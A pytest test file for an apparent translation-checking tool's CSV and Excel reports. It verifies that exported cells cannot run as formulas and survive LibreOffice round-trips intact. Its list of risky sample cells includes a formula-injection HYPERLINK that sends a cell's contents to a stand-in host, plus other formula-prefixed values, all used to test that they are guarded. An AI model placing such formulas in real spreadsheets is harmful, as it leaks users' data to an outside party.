"""CSV and XLSX as spreadsheets open them: no cell runs, none is rewritten, none is cut."""

from __future__ import annotations

import csv as reader
import io
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.rich_text import CellRichText, TextBlock

from aligner import decisions
from aligner.cli import main
from aligner.config import Config, settled
from aligner.model import AlignerError
from aligner.report import csv, rendered, workbook
from aligner.report.workbook import Sheet, Text

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_office = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is absent: apt-get install libreoffice-calc")

RISKY = (
    '=HYPERLINK("http://example.invalid/?a="&A1;"нажмите")', "+1/+1 counters", "+1/+1", "-1/-1", "-3: эту способность",
    "@SUM(A1)", "'quoted", "\ttab", "＝1+1", "2/2", "502.30", "1/2/2021", "12.02.2021", "3,5", "1.000", "1e5", "007",
    "12:30", "4 мая", "May 4, 2013", "4 de maio", "2013年3月4日", "3月4日", "1 1/2", "(3)", "$3", "3 €", "50%", "1 000",
    "TRUE", "10-12",
)  # fmt: skip
PLAIN = (
    "Кириллица",
    "マナ・コスト",
    "a; b, c",
    'he said "no"',
    "502.30a",
    "A 2/2 creature",
    "{2}{U}",
    "two\nlines",
    "−3",
    "10/10-Kreatur",
)
MARKS = {",": "44", ";": "59", "\t": "9"}


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder in which LibreOffice keeps its settings; making them takes longest."""
    return tmp_path_factory.mktemp("profile")


def converted(file: Path, to: str, folder: Path, profile: Path, filter_: str = "") -> Path:
    """Return the file as LibreOffice saves it after opening it."""
    words = [OFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    words += [f"--infilter={filter_}"] if filter_ else []
    out = folder / "converted"
    subprocess.run([*words, "--convert-to", to, "--outdir", str(out), str(file)], check=True, capture_output=True)
    (made,) = out.glob(f"{file.stem}*")
    return made


@needs_office
@pytest.mark.parametrize("mark", MARKS)
def test_libreoffice_opens_every_text_as_it_is(mark: str, tmp_path: Path, profile: Path) -> None:
    cells = (*RISKY, *PLAIN)
    file = tmp_path / "report.csv"
    file.write_bytes(
        csv.table(("id", "excerpt"), [(f"n{n}", one) for n, one in enumerate(cells)], mark).encode("utf-8-sig")
    )
    # UTF-8, American English, and numbers and dates of every shape are looked for
    book = openpyxl.load_workbook(
        converted(file, "xlsx", tmp_path, profile, f"CSV:{MARKS[mark]},34,76,1,,1033,false,true")
    )
    rows = list(book.active.iter_rows())
    assert [cell.value for cell in rows[0]] == ["id", "excerpt"]
    assert len(rows) == len(cells) + 1
    for (_, cell), text in zip(rows[1:], cells, strict=True):
        assert cell.data_type == "s", text
        assert cell.value == (f"'{text}" if text in RISKY else text)


@pytest.mark.parametrize("text", RISKY)
def test_a_risky_cell_is_guarded_once(text: str) -> None:
    assert csv.guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_cell_is_left_alone(text: str) -> None:
    assert csv.guarded(text) == text


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30)


@settings(max_examples=50)
@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=4), st.sampled_from(list(MARKS)))
@example([("a;b,c\td", "=1;2")], ";")
def test_every_cell_comes_back_with_any_delimiter(rows, mark) -> None:
    text = csv.table(("document", "excerpt"), rows, mark)
    read = list(reader.reader(io.StringIO(text, newline=""), delimiter=mark))
    assert [tuple(cell.removeprefix("'") if cell.startswith("'") else cell for cell in row) for row in read[1:]] == rows
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for row in read for cell in row)


def test_the_report_has_the_delimiter_that_was_asked_for(result) -> None:
    for word, mark in (("semicolon", ";"), ("tab", "\t"), (";", ";"), ("\\t", "\t")):
        text = rendered("csv", result, settled({"delimiter": word}, {})).removeprefix("\ufeff")
        rows = list(reader.DictReader(io.StringIO(text, newline=""), delimiter=mark))
        assert [row["fingerprint"] for row in rows] == [one.fingerprint for one in result.findings]
    with pytest.raises(AlignerError, match="none that spreadsheets know"):
        settled({"delimiter": "|"}, {})


@pytest.fixture(scope="module")
def raw(result, config) -> bytes:
    return rendered("xlsx", result, config)


@pytest.fixture(scope="module")
def book(raw):
    return openpyxl.load_workbook(io.BytesIO(raw), rich_text=True)


def table(sheet) -> list[dict[str, object]]:
    names = [cell.value for cell in sheet[1]]
    return [dict(zip(names, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_a_sheet_for_each_purpose(book) -> None:
    assert book.sheetnames == ["Findings", "Side by side", "Drift", "Summary"]
    for sheet in book:
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet.freeze_panes and sheet.freeze_panes.endswith("2")
        assert sheet["A1"].font.bold and sheet["A2"].alignment.wrap_text


def test_decisions_are_chosen_from_a_list(book, result) -> None:
    sheet = book["Findings"]
    (rule,) = sheet.data_validations.dataValidation
    assert (rule.type, rule.formula1) == ("list", '"true fault,false alarm"')
    assert str(rule.sqref) == f"A2:A{len(result.findings) + 1}"
    rows = table(sheet)
    assert [row["fingerprint"] for row in rows] == [one.fingerprint for one in result.findings]
    assert [row["decision"] for row in rows[:3]] == [None, "false alarm", None]
    assert rows[1]["reason"] == "the card is <named> so: {X}"


def test_the_faulty_piece_stands_in_bold(book) -> None:
    bold = 0
    for row in table(book["Findings"]):
        if isinstance(row["ruling"], CellRichText):
            pieces = [one.text for one in row["ruling"] if isinstance(one, TextBlock) and one.font.b]
            assert pieces == [str(row["excerpt"])]
            bold += 1
    assert bold >= 5


def test_no_cell_runs(raw, book) -> None:
    assert any(str(row["ru"]).startswith("=HYPERLINK(") for row in table(book["Side by side"]))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "inlineStr"), cell.value
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist() if "sheet" in name)


def test_a_concept_with_two_renderings_drifts(book) -> None:
    rows = [row for row in table(book["Drift"]) if row["concept"] == "mana cost"]
    assert [(row["rendering"], row["count"], row["share"]) for row in rows] == [
        ("мана-стоимость", 1, 0.5),
        ("стоимость маны", 1, 0.5),
    ]


def test_groups_stand_side_by_side(book, result) -> None:
    rows = table(book["Side by side"])
    groups = [row for row in rows if row["group"] != "title"]
    assert len(groups) == sum(len(one.groups) for one in result.corpus.aligned)
    assert any(row["ja"] == "(none)" and row["en"] for row in groups)
    assert {"TRM001", "FRM004"} & {code for row in groups for code in (row["findings"] or "").split()}


@needs_office
def test_libreoffice_opens_the_workbook_and_its_decisions_come_back(raw, result, tmp_path: Path, profile: Path) -> None:
    book = openpyxl.load_workbook(io.BytesIO(raw), rich_text=True)
    book["Findings"]["A4"], book["Findings"]["B4"] = "true fault", "=is that so?"
    book["Findings"]["B4"].data_type = "s"
    file = tmp_path / "report.xlsx"
    book.save(file)
    made = converted(file, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false", tmp_path, profile)
    text = made.read_bytes().decode("utf-8-sig")
    rows = list(reader.DictReader(io.StringIO(text, newline="")))
    assert [row["fingerprint"] for row in rows] == [one.fingerprint for one in result.findings]
    assert [row["excerpt"] for row in rows] == [one.excerpt for one in result.findings]
    found = {one.fingerprint: (one.decision, one.reason) for one in decisions.read(made)}
    assert found == {
        result.findings[1].fingerprint: ("false alarm", "the card is <named> so: {X}"),
        result.findings[2].fingerprint: ("true fault", "=is that so?"),
    }


def test_the_bytes_hold_no_clock(raw) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        assert archive.read("docProps/core.xml").count(b"2000-01-01T00:00:00Z") == 2


@pytest.mark.parametrize("text", ["x" * 40_000, "マナ" * 20_000, "\U0001f600" * 20_000, "a\n" * 33_000])
def test_a_text_too_long_for_a_cell_is_all_there(text: str) -> None:
    raw = workbook.build([Sheet("Texts", (("text", 20),), [(Text(text, ((0, 3), (39_000, 39_500))),)])])
    book = openpyxl.load_workbook(io.BytesIO(raw))
    shown = book["Texts"]["A2"].value
    assert workbook.units(shown) <= workbook.LIMIT and "the sheet 'Long texts' from row 2 on" in shown
    rows = list(book[workbook.CONTINUED].iter_rows(min_row=2, values_only=True))
    assert [row[:3] for row in rows] == [("Texts", "A2", number) for number in range(1, len(rows) + 1)]
    assert "".join(row[3] for row in rows) == text
    assert all(workbook.units(row[3]) <= workbook.LIMIT for row in rows)


def test_a_long_text_in_a_report_is_whole(result, config: Config) -> None:
    one = replace(result.findings[0], message="m" * 70_000)
    book = openpyxl.load_workbook(io.BytesIO(rendered("xlsx", replace(result, findings=(one,)), config)))
    assert "".join(row[3] for row in book["Long texts"].iter_rows(min_row=2, values_only=True)) == "m" * 70_000


@settings(max_examples=50)
@given(st.lists(st.text(st.characters(exclude_characters="\r"), max_size=20), min_size=1, max_size=5))
@example(["_x0041_", "a\x01b", "\ud800", "\ufffe", "#N/A", "=1", " both ", "_x005F_"])
def test_every_text_comes_back_from_a_workbook(texts) -> None:
    raw = workbook.build([Sheet("Texts", (("text", 20),), [(one,) for one in texts])])
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    for (cell,), text in zip(sheet.iter_rows(min_row=2, max_row=len(texts) + 1), texts, strict=True):
        assert text == "" if cell.value is None else cell.data_type == "s"
        assert (cell.value or "").replace("x005F_", "") == workbook.escaped(text).replace("x005F_", "")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a\x01b", "a_x0001_b"),
        ("_x0041_", "_x005F_x0041_"),
        ("\ud83d", "_xD83D_"),
        ("a_b", "a_b"),
        ("\uffff", "_xFFFF_"),
    ],
)
def test_what_xml_cannot_hold_is_written_as_the_format_says(text: str, written: str) -> None:
    assert workbook.escaped(text) == written


def test_spans_that_touch_are_one() -> None:
    assert workbook.joined([(4, 6), (0, 2), (5, 9), (2, 3), (10, 10)]) == ((0, 3), (4, 9))


def test_the_handed_case_holds(shared: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Check every line that the case on the CSV report says of it."""
    folder = shared / "cases" / "handed" / "23-csv-report-opens-safely-in-excel"
    monkeypatch.chdir(folder)
    words = ["check", ".", "--format", "csv", "--encoder", "none", "--quiet", "--no-config"]
    raw = CliRunner().invoke(main, words).stdout_bytes
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(reader.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row, strict=True):
            number = name in ("position", "line", "column", "score")
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or (number and cell.lstrip("+-").isdigit())
    found = {(row[header.index("code")], row[header.index("position")]): row for row in rows[1:]}
    page = (folder / "ru.txt").read_text(encoding="utf-8")
    texts = [row[header.index("excerpt")].removeprefix("'") for row in rows[1:]]
    assert all(text in page for text in texts)
    assert any(text.startswith("+1/+1 counters and -1/-1 counters") for text in texts)
    assert any(text.startswith("=HYPERLINK(") for text in texts)
    assert {position for _, position in found} >= {"1", "2", "3"} and ("FRM007", "4") not in found
    assert "двух" in raw.decode("utf-8-sig")
